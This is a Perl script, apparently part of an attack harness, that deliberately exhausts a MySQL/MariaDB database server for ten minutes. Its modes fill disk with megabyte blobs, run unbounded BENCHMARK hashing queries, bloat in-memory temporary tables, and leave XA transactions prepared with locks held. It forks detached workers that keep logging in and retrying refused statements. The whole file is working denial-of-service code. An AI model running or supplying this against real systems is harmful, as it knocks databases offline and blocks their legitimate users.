#!/usr/bin/perl
# Abuses the database server for ten minutes. QUERY_STRING is a way:
# tables: fills the database, a MiB a statement; statements: eight sessions that compute, without a limit of time;
# temporary: temporary tables and tables in memory; locks: tables locked for ever, and transactions prepared and left.
require '/attacks/system-calls.pl';
require '/attacks/database.pl';

my ($way, $end) = ($ENV{QUERY_STRING}, time + 600);
my %steps = (
  tables => ['CREATE TABLE IF NOT EXISTS heap (id INT AUTO_INCREMENT PRIMARY KEY, filling LONGBLOB)',
    "INSERT INTO heap (filling) VALUES (REPEAT(CHAR(FLOOR(65 + RAND() * 26)), 1048576))"],
  statements => ['SET SESSION max_statement_time = 0', 'SELECT BENCHMARK(1000000000000, SHA2(RAND(), 512))'],
  temporary => ['SET SESSION max_heap_table_size = 4294967296', 'CREATE TEMPORARY TABLE IF NOT EXISTS wide (filling LONGTEXT)',
    "INSERT INTO wide VALUES (REPEAT('x', 4194304))"],
  locks => ['CREATE TABLE IF NOT EXISTS kept (id INT)', 'XA START \'left\'', 'INSERT INTO kept VALUES (1)', 'XA END \'left\'',
    'XA PREPARE \'left\'', 'SELECT GET_LOCK(\'seed\', 600)'],
);
my ($first, @again) = @{ $steps{$way} or die "no such way: $way" };
go_on_alone();
for (1 .. $way eq 'tables' ? 2 : 8) {
  next if fork;
  while (time < $end) {
    my $session = eval { login() };
    if (!$session) { sleep 1; next }
    eval {
      query($session, $first);
      # What is refused once may be let through later; who is refused everything does not ask in a frenzy.
      while (time < $end) { select undef, undef, undef, 0.2 if grep({ query($session, $_) ne '' } @again) == @again }
    };
  }
  exit 0;
}
